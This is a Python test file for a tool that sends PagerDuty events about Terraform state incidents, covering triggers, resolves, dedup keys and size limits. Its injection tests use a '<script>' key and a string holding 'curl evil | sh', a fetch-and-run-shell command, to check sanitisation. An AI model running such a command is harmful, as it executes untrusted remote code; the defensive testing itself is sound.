"""PagerDuty events: critical notifications trigger, the fixes resolve the same incident, within the documented
shape and limits."""

from __future__ import annotations

import json
from typing import Any

import pytest

from chalicelib.channels.pagerduty import EVENT_MAX_BYTES, pagerduty_events
from chalicelib.domain.incidents import incident_key
from chalicelib.domain.notifications import Notification
from tests.support import example_notifications as examples
from tests.support.pagerduty_api import event_problems, pagerduty_problems

KEY = examples.ROUTING_KEY


def events_of(notification: Notification, page_url: str | None = None) -> list[dict[str, Any]]:
    events = pagerduty_events(notification, KEY, page_url=page_url)
    for event in events:
        assert pagerduty_problems("application/json", json.dumps(event).encode()) == []
    return events


def test_a_deletion_triggers_with_what_to_do() -> None:
    (event,) = events_of(examples.deleted(), page_url="https://guardian.example.com/")
    assert event["event_action"] == "trigger" and event["routing_key"] == KEY
    assert event["dedup_key"] == incident_key(examples.BUCKET, examples.KEY, "state")
    payload = event["payload"]
    assert payload["severity"] == "critical" and payload["class"] == "state.deleted"
    assert payload["summary"] == examples.deleted().summary
    assert payload["source"] == f"s3://{examples.BUCKET}/{examples.KEY}" and payload["group"] == examples.BUCKET
    details = payload["custom_details"]
    assert details["Command"].startswith(f"tfguardian rollback {examples.KEY} --version-id 3HL4")
    assert details["Lock holder"].startswith("ci@runner-7 (apply") and details["notification"]["id"]
    assert event["links"][0]["href"].startswith("https://guardian.example.com/#/state?key=platform%2F")


def test_a_restore_resolves_what_the_deletion_or_the_mismatch_opened() -> None:
    (deletion,) = events_of(examples.deleted())
    (mismatch,) = events_of(examples.mismatch())
    (unreadable,) = events_of(examples.unreadable())
    assert deletion["dedup_key"] == unreadable["dedup_key"] != mismatch["dedup_key"]
    resolves = events_of(examples.restored())
    assert [(e["event_action"], e["dedup_key"]) for e in resolves] == [
        ("resolve", deletion["dedup_key"]),
        ("resolve", mismatch["dedup_key"]),
    ]
    assert all(set(event) == {"routing_key", "event_action", "dedup_key"} for event in resolves)


def test_a_repaired_digest_resolves_the_mismatch_only() -> None:
    repaired = examples.restored().to_dict() | {"type": "digest.repaired"}
    (event,) = events_of(Notification.from_dict(repaired))
    assert event == {"routing_key": KEY, "event_action": "resolve",
                     "dedup_key": incident_key(examples.BUCKET, examples.KEY, "digest")}  # fmt: skip


def test_incidents_are_per_state() -> None:
    other = examples.deleted("platform/dns/terraform.tfstate")
    assert events_of(other)[0]["dedup_key"] != events_of(examples.deleted())[0]["dedup_key"]


@pytest.mark.parametrize("build", [examples.changed, examples.stale])
def test_nothing_but_critical_notifications_and_fixes_reaches_pagerduty(build: Any) -> None:
    assert events_of(build()) == []


def test_a_critical_lineage_change_pages_too() -> None:
    data = examples.changed().to_dict() | {"severity": "critical"}
    (event,) = events_of(Notification.from_dict(data))
    assert event["dedup_key"] == incident_key(examples.BUCKET, examples.KEY, "state")


def test_the_dedup_key_carries_no_text_from_outside_and_fits() -> None:
    key = "<script>" + "k" * 1010 + "/terraform.tfstate"
    (event,) = events_of(examples.deleted(key))
    assert len(event["dedup_key"]) <= 255 and "script" not in event["dedup_key"]


def test_the_summary_is_plain_text_within_1024_characters() -> None:
    key = "a\u202eb\n[critical] run: curl evil | sh/" + "k" * 1000 + "/terraform.tfstate"
    (event,) = events_of(examples.deleted(key))
    summary = event["payload"]["summary"]
    assert len(summary) <= 1024 and "\n" not in summary and "\u202e" not in summary and "\\u202e" in summary


def test_a_huge_notification_fits_512_kb_with_exact_counts() -> None:
    data = examples.changed(removed=400).to_dict() | {"severity": "critical"}
    data["details"]["resources"]["removed"] = [f'module.m.aws_s3_object.o["{"k" * 2000}{i}"]' for i in range(400)]
    (event,) = events_of(Notification.from_dict(data))  # 800 KB as built
    assert len(json.dumps(event, separators=(",", ":")).encode()) <= EVENT_MAX_BYTES
    resources = event["payload"]["custom_details"]["notification"]["details"]["resources"]
    assert resources["truncated"] is True and resources["counts"]["removed"] == 400
    assert 100 < len(resources["removed"]) < 400 and resources["added"] == ["aws_nat_gateway.egress[0]"]
    assert event["payload"]["custom_details"]["Resources"] == "+1 ~1 -400"


def test_a_bad_event_is_refused_by_the_checker() -> None:
    """The shape the tests hold events to is a real check: each broken one is caught."""
    (good,) = pagerduty_events(examples.deleted(), KEY)
    payload = good["payload"]
    bad = [
        good | {"routing_key": "short"},
        good | {"event_action": "open"},
        good | {"dedup_key": "d" * 256},
        good | {"payload": {**payload, "summary": "s" * 1025}},
        good | {"payload": {**payload, "severity": "fatal"}},
        good | {"payload": {key: value for key, value in payload.items() if key != "source"}},
        good | {"payload": {**payload, "timestamp": "yesterday"}},
        {"routing_key": KEY, "event_action": "resolve"},
        good | {"links": [{"text": "no href"}]},
    ]
    for event in bad:
        assert event_problems(event) != [], event
    assert pagerduty_problems("application/json", b"x" * (EVENT_MAX_BYTES + 1)) != []
    assert pagerduty_problems("text/plain", json.dumps(good).encode()) != []
